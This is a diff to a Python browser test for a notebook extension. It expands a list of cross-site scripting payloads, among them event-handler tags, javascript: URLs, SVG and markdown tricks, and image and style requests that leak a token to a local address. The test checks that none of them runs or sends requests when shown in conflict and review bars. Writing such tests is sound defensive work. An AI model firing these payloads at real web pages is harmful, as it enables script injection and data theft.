@@ -107,35 +107,72 @@ PAYLOADS = (
     f"<button data-commandlinker-command=cellwright:undo-all onclick={RUN}>x</button>",
     f"<style>@import 'javascript:{RUN}'</style>",
     f"${{{RUN}}} {{{{{RUN}}}}}",
+    f"<body onload={RUN}>",
+    f"<video src=x onerror={RUN}></video>",
+    f"<audio src=x onerror={RUN}></audio>",
+    f"<object data='javascript:{RUN}'></object>",
+    f"<embed src='javascript:{RUN}'>",
+    f"<form><button formaction='javascript:{RUN}'>x</button></form>",
+    f"<select autofocus onfocus={RUN}></select>",
+    # What an attacker would like besides: commands, requests, styles, markup of the notebook's own.
+    f"<marquee onstart={RUN}>x</marquee>",
+    f"<svg><script>{RUN}</script></svg>",
+    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
+    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
+    f"<math href='javascript:{RUN}'>x</math>",
+    f"<base href='javascript:{RUN}//'>",
+    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
+    f"<link rel=stylesheet href='javascript:{RUN}'>",
+    "<img src='http://127.0.0.1:9/leak?token=x'>",
+    "<div style='background:url(http://127.0.0.1:9/leak)'>x</div>",
+    f"<template><script>{RUN}</script></template>",
+    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
+    f"<textarea><img src=x onerror={RUN}></textarea>",
+    f"<!--><img src=x onerror={RUN}>-->",
+    f"<![CDATA[><img src=x onerror={RUN}>]]>",
+    f"<IMG SRC=x OnErRoR={RUN}>",
+    f"&lt;img src=x onerror={RUN}&gt;<img/src=x/onerror={RUN}>",
+    f"[x](javascript:{RUN}) ![x](javascript:{RUN})",
+    f"$\\href{{javascript:{RUN}}}{{x}}$",
+    f"<a data-commandlinker-command=notebook:run-cell data-commandlinker-args='{{}}' onmouseover={RUN}>x</a>",
 )
+HALVES = {
+    "first": PAYLOADS[:20],
+    "second": PAYLOADS[20:],
+}
 
 
-def test_no_text_of_others_runs_in_the_page(server: Server, open_page: OpenPage) -> None:
+@pytest.mark.parametrize("half", ["first", pytest.param("second", marks=pytest.mark.all)])
+def test_no_text_of_others_runs_in_the_page(server: Server, open_page: OpenPage, half: str) -> None:
     """In conflict bars, review bars, reasons, and the name of the notebook."""
-    name = "<img src=x onerror=window.pwned=1>.ipynb"
-    path = server.write(name, *(f"{chr(97 + n)} = 0" for n in range(len(PAYLOADS))))
-    page = open_page("%3Cimg%20src=x%20onerror=window.pwned=1%3E.ipynb")
-    ids = [chr(97 + number) for number in range(len(PAYLOADS))]
+    payloads = HALVES[half]
+    name = f"<img src=x onerror=window.pwned=1>{half}.ipynb"
+    path = server.write(name, *(f"{chr(97 + n)} = 0" for n in range(len(payloads))))
+    page = open_page(f"%3Cimg%20src=x%20onerror=window.pwned=1%3E{half}.ipynb")
+    leaks: list[str] = []
+    page.on("request", lambda request: leaks.append(request.url) if ":9/" in request.url else None)
+    ids = [chr(97 + number) for number in range(len(payloads))]
     page.evaluate(
         f"() => [...{PANEL}.content.model.cells].forEach(m => m.sharedModel.setSource('mine'))"
     )
-    change_on_disk(path, **dict(zip(ids, PAYLOADS, strict=True)))
-    count = len(PAYLOADS)
+    change_on_disk(path, **dict(zip(ids, payloads, strict=True)))
+    count = len(payloads)
     page.wait_for_function(f"() => document.querySelectorAll('.cw-conflict').length === {count}")
     shown = page.locator(".cw-conflict pre").all_text_contents()
-    assert shown == list(PAYLOADS)
+    assert shown == list(payloads)
     for number in range(count):
         page.locator(".cw-conflict").first.get_by_text("Keep mine").click()
         assert page.locator(".cw-conflict").count() == count - number - 1
-    for payload, cell in zip(PAYLOADS, ids, strict=True):
+    for payload, cell in zip(payloads, ids, strict=True):
         workspace = connect(cwd=str(server.folder), actor=f"mcp:{payload}")
         assert workspace is not None
         with workspace:
             workspace.open(name).edit([{"op": "replace", "cell": cell, "source": "y = 1"}])
     page.wait_for_function(f"() => document.querySelectorAll('.cw-review').length === {count}")
     texts = page.locator(".cw-review span").all_text_contents()
-    assert [text.removeprefix("Changed by mcp:") for text in texts] == list(PAYLOADS)
+    assert [text.removeprefix("Changed by mcp:") for text in texts] == list(payloads)
     page.mouse.move(300, 300)
     run = page.evaluate("() => new Promise(done => setTimeout(() => done(window.pwned), 300))")
     assert run is None
+    assert leaks == []
     assert page.locator(".cw-bar img, .cw-bar script, .cw-bar svg, .cw-bar a").count() == 0
